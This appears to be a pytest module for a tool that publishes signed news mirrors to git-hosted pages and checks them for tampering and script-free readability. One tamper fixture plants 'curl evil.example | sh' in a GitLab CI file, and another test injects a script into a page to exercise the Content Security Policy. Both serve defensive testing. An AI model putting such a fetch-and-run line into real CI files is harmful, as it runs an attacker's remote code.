"""A site at hosts of web pages: in git, verified, taken over by forks, and read in a real browser with scripts off."""

from __future__ import annotations

import gzip
import os
import shutil
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote, unquote, urlsplit

import brotli
import pytest
from msgspec import Struct
from msgspec.structs import replace
from pipeline_broken import broken, with_
from pipeline_forge import dead, pages, unreachable
from pipeline_host import CHROMIUM, Host
from pipeline_house import (
    Moment,
    Paper,
    copy,
    forget_editions,
    git_tree,
    load,
    many,
    newsroom,
    python,
    run,
    told,
    toml,
    tree,
)
from playwright.sync_api import sync_playwright

from pappus.cli.follow import verifier
from pappus.layout import LED_TO_BY_NONE, NOT_FOUND, is_binding
from pappus.mirrors import load as load_binding
from pappus.mirrors.follow import FollowOptions, follow
from pappus.mirrors.rebind import rebind
from pappus.model import WORKER
from pappus.pipeline.places import PlaceOptions, open_place
from pappus.pipeline.verdict import VerifyOptions
from pappus.pipeline.verify import verify
from pappus.trust import ceremony

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Page

    from pappus.pipeline import Newsroom
    from pappus.pipeline.verdict import Verdict

BRANCHES = {"github-pages": "gh-pages", "gitlab-pages": "main", "codeberg-pages": "pages"}
BESIDE = {"github-pages": {".nojekyll"}, "gitlab-pages": {".gitlab-ci.yml"}, "codeberg-pages": set()}
FORK = "https://fork.example/news/"
STORIES = many(8)
EXTRA = """
[signing]
keys = "keys"
[[notices]]
text = "کتاب‌ها"
url = "https://books.example/"
[[editions]]
name = "markdown"
[[editions]]
name = "site"
"""


def configuration(url: str) -> str:
    mirrors = "".join(
        f"""
[[mirrors]]
name = "{host}"
edition = "site"
kind = "git"
host = "{host}"
remote = "mirrors/{host}.git"
branch = "{branch}"
address = "https://{host}.example/news/"
"""
        for host, branch in BRANCHES.items()
    )
    folder = """
[[mirrors]]
name = "site"
edition = "site"
kind = "directory"
path = "mirrors/site"
precompress = true
address = "https://www.news.example/"
"""
    return toml(url, {"all": "/all.xml", "渡轮": "/some.xml"}, extra=EXTRA) + mirrors + folder


class House(Struct):
    """A newsroom with both editions, and its mirrors."""

    folder: Path
    clock: Moment

    @property
    def newsroom(self) -> Newsroom:
        return load(self.folder, self.clock)

    def files(self, host: str) -> dict[str, bytes]:
        return git_tree(self.folder / f"mirrors/{host}.git", BRANCHES[host])

    def clone(self, host: str, target: Path, *settings: str) -> Path:
        """Return the branch, checked out as the host does."""
        source = self.folder / f"mirrors/{host}.git"
        _git("clone", "--quiet", *settings, "--branch", BRANCHES[host], str(source), str(target))
        return target

    def look(self, place: Path) -> Verdict:
        return verify(open_place(str(place), PlaceOptions(), self.clock), VerifyOptions(), self.clock())


def _git(*arguments: str, cwd: Path | None = None) -> None:
    who = ["-c", "user.name=A Fork", "-c", "user.email=fork@fork.invalid"]
    subprocess.run(["git", *who, *arguments], cwd=cwd, check=True, capture_output=True)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Paper]]:
    folder = tmp_path_factory.mktemp("pages") / "house"
    with Paper() as paper:
        paper.stories(STORIES)
        paper.feed("/all.xml", STORIES)
        paper.feed("/some.xml", STORIES[::2])
        newsroom(folder, configuration(paper.url))
        ceremony.init(folder / "keys", "", ceremony.NewRoots(folder=folder / "offline"), Moment()())
        report = run(load(folder))
        assert told(report, "failed", "warned") == []
        yield folder, paper


@pytest.fixture
def house(template: tuple[Path, Paper], tmp_path: Path) -> House:
    return House(copy(template[0], tmp_path / "house"), Moment())


@pytest.mark.parametrize("host", BRANCHES)
def test_a_branch_holds_the_site_and_what_its_host_wants_and_is_whole(host, house, tmp_path):
    files = house.files(host)
    assert {path for path in files if path.startswith(".")} == BESIDE[host]
    assert "index.html" in files
    assert not any(path.endswith(".md") for path in files)
    verdict = house.look(house.clone(host, tmp_path / "clone"))
    assert verdict.findings == ()
    assert {note.kind for note in verdict.notes} == {"unpinned"}


@pytest.mark.parametrize("host", BRANCHES)
def test_a_clone_of_git_on_windows_is_whole(host, house, tmp_path):
    clone = house.clone(host, tmp_path / "clone", "--config", "core.autocrlf=true")
    verdict = house.look(clone)
    assert verdict.findings == ()
    changed = {path for path, data in house.files(host).items() if (clone / path).read_bytes() != data}
    assert {"index.html", "site.js", "feeds/all.atom", "feeds/all.rss", "feeds/list.opml", "sitemap.xml"} <= changed
    assert {note.path for note in verdict.notes if note.kind == "rewrapped"} == changed - {"mirror.json"}


def test_every_mirror_of_the_site_holds_the_same_signed_bytes(house):
    signed = [
        {path: data for path, data in house.files(host).items() if not (path.startswith(".") or is_binding(path))}
        for host in BRANCHES
    ]
    assert signed[0] == signed[1] == signed[2]


def test_a_newsroom_with_a_site_has_the_same_markdown_as_one_without(template, house, tmp_path):
    alone, _, _ = configuration(template[1].url).partition('[[mirrors]]\nname = "github')
    alone = alone.replace('[[editions]]\nname = "site"\n', "")
    newsroom(tmp_path / "alone", alone)
    shutil.copytree(house.folder / "keys", tmp_path / "alone" / "keys")
    run(load(tmp_path / "alone"))
    with_site, without = tree(house.folder / "mirrors/folder"), tree(tmp_path / "alone/mirrors/folder")
    texts = [path for path in without if path.endswith(".md") and path != "mirrors.md"]
    assert len(texts) > 10
    assert {path: with_site[path] for path in texts} == {path: without[path] for path in texts}
    assert set(with_site) == set(without)


@pytest.mark.parametrize(
    ("host", "path", "data", "kind"),
    [
        ("github-pages", ".nojekyll", b"x", "altered"),
        ("github-pages", ".nojekyll", None, "missing"),
        ("gitlab-pages", ".gitlab-ci.yml", b"pages:\n  script:\n    - curl evil.example | sh\n", "altered"),
        ("gitlab-pages", ".nojekyll", b"", "added"),
        ("codeberg-pages", ".nojekyll", b"", "added"),
        ("github-pages", "README.md", b"not ours", "added"),
        ("github-pages", "index.html", b"<h1>Not the news</h1>", "altered"),
        ("github-pages", "pages/lie.html", b"<h1>Not the news</h1>", "added"),
        ("github-pages", "feeds/all.atom", b"<feed/>", "altered"),
        ("github-pages", "feeds/all.rss", b"<rss/>", "altered"),
        ("github-pages", "feeds/channels/all.json", None, "missing"),
        ("github-pages", "feeds/list.opml", b"<opml/>", "altered"),
        ("github-pages", "feeds/lie.rss", b"<rss/>", "added"),
        ("github-pages", "sitemaps/2026-11/0.xml", b"<urlset/>", "altered"),
        ("github-pages", "sitemap.xml", b"<sitemapindex/>", "altered"),
        ("github-pages", "robots.txt", b"User-agent: *\nDisallow: /\n", "added"),
    ],
)
def test_what_is_not_as_it_was_put_is_found(host, path, data, kind, house, tmp_path):
    clone = house.clone(host, tmp_path / "clone")
    if data is None:
        (clone / path).unlink()
    else:
        (clone / path).write_bytes(data)
    assert [(one.kind, one.path) for one in house.look(clone).findings] == [(kind, path)]


@pytest.mark.parametrize("quick", [False, True])
@pytest.mark.parametrize(
    ("path", "make", "kind"),
    [
        ("index.html.gz", None, None),
        ("index.html.gz", lambda data: gzip.compress(gzip.decompress(data) + b"<p>Not the news", mtime=0), "altered"),
        ("feeds/all.rss.br", lambda _: brotli.compress(b"<rss/>"), "altered"),
        ("robots.txt.gz", lambda _: gzip.compress(b"#"), "altered"),
        ("guide.html.br", lambda data: data[:-9], "altered"),
        ("nobody.html.br", lambda _: b"", "added"),
        ("media.gz", lambda _: b"", "added"),
    ],
)
def test_a_folder_s_packed_files_are_verified(path, make, kind, quick, house):
    folder = house.folder / "mirrors/site"
    if make is not None:
        before = (folder / path).read_bytes() if (folder / path).exists() else b""
        (folder / path).write_bytes(make(before))
    else:
        assert (folder / path).is_file()
        assert (folder / "robots.txt").is_file()
        assert not list(folder.glob("metadata/*.gz"))
    place = open_place(str(folder), PlaceOptions(), house.clock)
    verdict = verify(place, VerifyOptions(quick=quick), house.clock())
    assert [(one.kind, one.path) for one in verdict.findings] == ([(kind, path)] if kind else [])


def test_a_folder_that_is_bound_anew_packs_anew_what_it_made(house):
    folder = house.folder / "mirrors/site"
    rebind(folder, FORK, "", house.clock())
    assert house.look(folder).findings == ()
    assert FORK.encode() in gzip.decompress((folder / "feeds/all.json.gz").read_bytes())


def test_a_binding_that_speaks_of_another_edition_is_found(house, tmp_path):
    clone = house.clone("github-pages", tmp_path / "clone")
    bound = load_binding((clone / "mirror.json").read_bytes())
    (clone / "mirror.json").write_bytes(replace(bound, edition="markdown").dump())
    found = [(one.kind, one.path) for one in house.look(clone).findings]
    assert found == [("added", ".nojekyll"), ("altered", "mirror.json")]


def test_a_mirror_that_goes_to_another_kind_of_host_changes_its_files(house):
    text = (house.folder / "pappus.toml").read_text(encoding="utf-8")
    text = text.replace('host = "gitlab-pages"', 'host = "github-pages"')
    (house.folder / "pappus.toml").write_text(text, encoding="utf-8")
    run(house.newsroom, ["publish"])
    assert {path for path in house.files("gitlab-pages") if path.startswith(".")} == {".nojekyll"}
    text = text.replace('host = "github-pages"', 'host = "codeberg-pages"')
    (house.folder / "pappus.toml").write_text(text, encoding="utf-8")
    run(house.newsroom, ["publish"])
    assert not [path for path in house.files("gitlab-pages") if path.startswith(".")]


def test_a_run_with_nothing_new_changes_no_branch(house):
    before = {host: house.files(host) for host in BRANCHES}
    report = run(house.newsroom, ["build", "publish"])
    assert told(report, "published", "built") == []
    run(house.newsroom, ["build"], full=True)
    assert {host: house.files(host) for host in BRANCHES} == before
    assert told(run(house.newsroom, ["publish"]), "published") == []


@pytest.mark.parametrize("host", BRANCHES)
def test_a_fork_of_a_site_makes_its_own_codes_and_is_whole(host, house, tmp_path):
    clone = house.clone(host, tmp_path / "clone")
    done = rebind(clone, FORK, "", house.clock())
    assert done.written == done.bound == sum(map(is_binding, tree(clone)))
    address = "https://fork.example/news/pages/"
    assert address in (clone / "feeds/all.rss").read_text(encoding="utf-8")
    assert address in (clone / "sitemaps/2026-11/0.xml").read_text(encoding="utf-8")
    verdict = house.look(clone)
    assert verdict.findings == ()
    assert "fork" in {note.kind for note in verdict.notes}


@pytest.mark.parametrize("host", BRANCHES)
def test_a_fork_follows_a_site(host, house, tmp_path):
    upstream = house.folder / f"mirrors/{host}.git"
    fork = tmp_path / "fork"
    _git("init", "--quiet", str(fork))
    _git("commit", "--quiet", "--allow-empty", "--message", "begin", cwd=fork)
    options = FollowOptions(upstream=str(upstream), address=FORK, branch=BRANCHES[host])
    done = follow(fork, options, verifier(None, house.clock()), house.clock())
    assert done.bound == len(STORIES) + 1
    verdict = house.look(fork)
    assert verdict.findings == ()
    assert load_binding((fork / "mirror.json").read_bytes()).edition == "site"
    again = follow(fork, options, verifier(None, house.clock()), house.clock())
    assert again.changed == 0


def test_a_correction_and_a_withdrawal_reach_the_site(template, house):
    _, paper = template
    corrected = replace(STORIES[0], title="Boat number 0 comes home at last", updated=Moment()())
    paper.stories([corrected])
    paper.put(STORIES[1].path, "gone", status=410)
    paper.feed("/all.xml", [corrected, replace(STORIES[1], updated=Moment()()), *STORIES[2:]])
    try:
        house.clock.pass_by(hours=1)
        run(house.newsroom)
    finally:
        paper.stories(STORIES)
        paper.feed("/all.xml", STORIES)
    shown = [data.decode() for path, data in house.files("github-pages").items() if path.startswith("pages/")]
    (revised,) = (text for text in shown if "at last" in text)
    assert "Text revised" in revised
    (withdrawn,) = (text for text in shown if "This article has been withdrawn" in text)
    assert "Its publisher has taken it back." in withdrawn
    assert "number one of the morning" not in withdrawn


def test_everything_in_a_site_is_alive_and_led_to_and_nothing_is_active(house):
    files = {path: data for path, data in house.files("codeberg-pages").items() if not path.startswith("metadata/")}
    rendered = pages(files)
    assert dead(files, rendered) == {}
    named = ("sitemaps/", "feeds/list.atom", "icon-", "search/", WORKER)
    programs = {path for path in files if path.startswith(named)}
    assert unreachable(files, rendered) == programs | LED_TO_BY_NONE
    drawn = {"about.html": ["<svg>"] * 3, "guide.html": ["<svg>"] * 3}  # pictures of our own, in the page
    alone = {NOT_FOUND: ["<link> to data:,"]}  # no icon: it stands at any depth
    assert {path: page.wrong for path, page in rendered.items() if page.wrong} == drawn | alone
    outside = set().union(*(page.outside for path, page in rendered.items() if path not in {"mirrors.html", NOT_FOUND}))
    assert {one for one in outside if not one.startswith(("https://books.example/", "http://127.0.0.1:"))} == set()


@pytest.mark.parametrize(
    ("spoil", "reason"),
    [
        (with_("boat-0.html", lambda body: body + b'<a href="nowhere.html">more</a>'), "which is not in the edition"),
        (with_("boat-0.html", lambda body: body + b'<img src="x.png">'), "which is not in the edition"),
        (with_("indexes/all/2026-11.html", lambda _: None), "which is not in the edition"),
        (with_("icon.png", lambda _: None), "which is not in the edition"),
        (with_(".html", lambda body: body.replace(b"guide.html", b"index.html")), "reachable from nowhere"),
        (with_(".html", lambda body: body.replace(b"indexes/all.html", b"guide.html")), "reachable from nowhere"),
    ],
    ids=["dead link", "dead image", "index not delivered", "icon not delivered", "lost guide", "lost channel"],
)
def test_a_site_with_a_dead_link_or_a_lost_page_is_not_published(spoil, reason, house):
    before = house.files("github-pages")
    forget_editions(house.folder)
    report = run(broken(house.newsroom, spoil), ["build", "publish"])
    (failed,) = [event for event in report.events if event.kind == "failed"]
    assert failed.place == "site"
    assert reason in failed.reason
    assert house.files("github-pages") == before


def test_the_same_store_gives_the_same_site_anywhere(house, tmp_path):
    before = tree(house.folder / "mirrors/site")
    forget_editions(house.folder)
    for one in ("site", ".site.spare"):
        shutil.rmtree(house.folder / "mirrors" / one)
    variables = {"TZ": "Pacific/Kiritimati", "LC_ALL": "tr_TR.UTF-8", "PYTHONHASHSEED": "1", "PATH": os.environ["PATH"]}
    driver = Path(__file__).with_name("pipeline_driver.py")
    subprocess.run(
        python(str(driver), str(house.folder / "pappus.toml"), "build,publish"),
        env=variables, cwd=tmp_path, umask=0o077, check=False, timeout=120,
    )  # fmt: skip  # the branches refuse, for the version that they hold is forgotten
    after = tree(house.folder / "mirrors/site")
    own = [path for path in before if path.endswith((".html", ".png")) or path.startswith("media/")]
    assert len(own) > 30
    assert {path: after.get(path) for path in own} == {path: before[path] for path in own}


# In a browser


class Crawl(Struct):
    """What a browser met on its way."""

    visited: set[str]
    asked: list[str]
    told: list[str]
    dead: list[str]


def _crawl(view: Page, home: str, root: str) -> Crawl:
    """Open home, and all that it leads to at this address."""
    crawl = Crawl(set(), [], [], [])
    view.on("request", lambda request: crawl.asked.append(request.url))
    view.on("response", lambda response: crawl.dead.append(response.url) if response.status >= 400 else None)
    view.on("console", lambda message: crawl.told.append(message.text))
    view.on("pageerror", lambda error: crawl.told.append(str(error)))
    waiting = [home, root + NOT_FOUND]
    view.on(
        "requestfailed", lambda request: waiting.append(request.url)
    )  # the next page may have broken it off: asked again
    while waiting:
        url = waiting.pop()
        if url in crawl.visited:
            continue
        crawl.visited.add(url)
        if not url.endswith(".html"):
            crawl.dead += [] if view.request.get(url).ok else [url]
            continue
        view.goto(url)
        page = view.locator("html").element_handle()
        assert not page.evaluate("html => html.scrollWidth > innerWidth"), url
        for image in view.query_selector_all("img"):
            image.scroll_into_view_if_needed()
            assert image.evaluate("image => image.decode().then(() => image.naturalWidth > 0)"), url
        assert page.evaluate("() => document.querySelectorAll('iframe, object').length") == 0
        links = view.eval_on_selector_all("a[href]", "all => all.map(one => one.href.split('#')[0])")
        waiting += [link for link in links if link.startswith(root)]
    return crawl


@pytest.mark.chromium
@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
@pytest.mark.parametrize("served", ["under a path", pytest.param("from a folder", marks=pytest.mark.slow)])
def test_every_page_is_readable_with_scripts_off_and_asks_nobody_for_anything(served, house, tmp_path):
    clone = house.clone("github-pages", tmp_path / "www" / "deep" / "news")
    with Host(tmp_path / "www") as host, sync_playwright() as playwright:
        root = f"{host.address}deep/news/" if served == "under a path" else clone.as_uri() + "/"
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        view = browser.new_context(viewport={"width": 320, "height": 640}, java_script_enabled=False).new_page()
        if served == "from a folder":
            view.request.get = lambda url: _Read(Path(unquote(urlsplit(url).path)))
        crawl = _crawl(view, f"{root}index.html", root)
        browser.close()
    every = {root + quote(path) for path in tree(clone) if path.endswith(".html")}
    assert {unquote(url) for url in crawl.visited if url.endswith(".html")} == set(map(unquote, every))
    assert f"{root}mirror.json" in crawl.visited
    assert f"{root}mirrors.json" in crawl.visited
    assert [url for url in crawl.asked if not url.startswith(root)] == []
    assert crawl.told == []
    assert crawl.dead == []


class _Read:
    """Whether a file is there, as an answer would tell."""

    def __init__(self, path: Path) -> None:
        self.ok = path.is_file()


@pytest.mark.chromium
@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_the_policy_stops_what_somebody_put_into_a_page(house, tmp_path):
    clone = house.clone("github-pages", tmp_path / "www")
    home = clone / "index.html"
    evil = (
        '<script>document.title = "taken"</script><img src="http://127.0.0.1:9/x.png"><style>h1{display:none}</style>'
    )
    home.write_text(home.read_text(encoding="utf-8").replace("</header>", f"</header>{evil}"), encoding="utf-8")
    told_: list[str] = []
    with Host(clone) as host, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        view = browser.new_page()
        view.on("console", lambda message: told_.append(message.text))
        view.goto(f"{host.address}index.html")
        assert view.title() == "The harbour, mirrored"
        assert view.locator("h1").is_visible()
        browser.close()
    assert sum("Content Security Policy" in text for text in told_) == 3
